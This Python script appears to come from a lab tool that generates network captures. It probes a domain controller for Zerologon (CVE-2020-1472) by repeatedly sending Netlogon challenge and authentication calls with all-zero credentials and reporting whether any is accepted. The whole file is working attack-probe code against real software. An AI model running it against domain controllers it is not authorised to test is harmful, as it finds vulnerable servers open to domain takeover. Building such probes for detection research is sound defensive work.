#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Zerologon (CVE-2020-1472) probe, ATT&CK T1210, for rpcmon lab captures: on one netlogon
connection (TCP port from the endpoint mapper, like the public testers), COUNT times
NetrServerReqChallenge (opnum 4) with an all-zero client challenge followed by
NetrServerAuthenticate3 (opnum 26) with an all-zero client credential for DC$ as a server secure
channel. A patched DC (Samba is) refuses every attempt; only the requests matter here.

Usage: zerologon.py DC_NETBIOS_NAME DC_IP [COUNT=20]
"""
import sys

from impacket.dcerpc.v5 import nrpc

import labrpc
from labrpc import log


def main():
    if len(sys.argv) not in (3, 4):
        sys.exit(__doc__)
    name, ip = sys.argv[1], sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) == 4 else 20
    port = labrpc.epm_port(ip, ('12345678-1234-abcd-ef00-01234567cffb', '1.0'))
    if port is None:
        return 1
    dce = labrpc.tcp(ip, port)
    labrpc.bind(dce, nrpc.MSRPC_UUID_NRPC, 'NRPC')
    accepted = 0
    for i in range(count):
        dce = attempt(dce, ip, port, name, i)
        if dce is None:
            accepted += 1
            break
    log('zerologon: %d attempts, %s' % (count, 'DC ACCEPTED a zero credential (vulnerable)'
                                          if accepted else 'all refused (patched)'))
    return 0


def attempt(dce, ip, port, name, i):
    try:
        nrpc.hNetrServerReqChallenge(dce, '\\\\' + name + '\x00', name + '\x00', b'\x00' * 8)
        log('CALL NRPC 4 NetrServerReqChallenge #%d -> ok' % (i + 1))
    except Exception as e:
        log('CALL NRPC 4 NetrServerReqChallenge #%d -> %s' % (i + 1, labrpc.short(e)))
    try:
        nrpc.hNetrServerAuthenticate3(dce, '\\\\' + name + '\x00', name + '$\x00',
                                      nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                                      name + '\x00', b'\x00' * 8, 0x212fffff)
        log('CALL NRPC 26 NetrServerAuthenticate3 #%d -> ACCEPTED' % (i + 1))
        return None
    except nrpc.DCERPCSessionError as e:
        log('CALL NRPC 26 NetrServerAuthenticate3 #%d -> %s' % (i + 1, labrpc.short(e)))
    except Exception as e:   # the server dropped the connection: go on with a new one
        log('CALL NRPC 26 NetrServerAuthenticate3 #%d -> %s; reconnecting' % (i + 1, labrpc.short(e)))
        dce = labrpc.tcp(ip, port)
        labrpc.bind(dce, nrpc.MSRPC_UUID_NRPC, 'NRPC')
    return dce


if __name__ == '__main__':
    sys.exit(main())
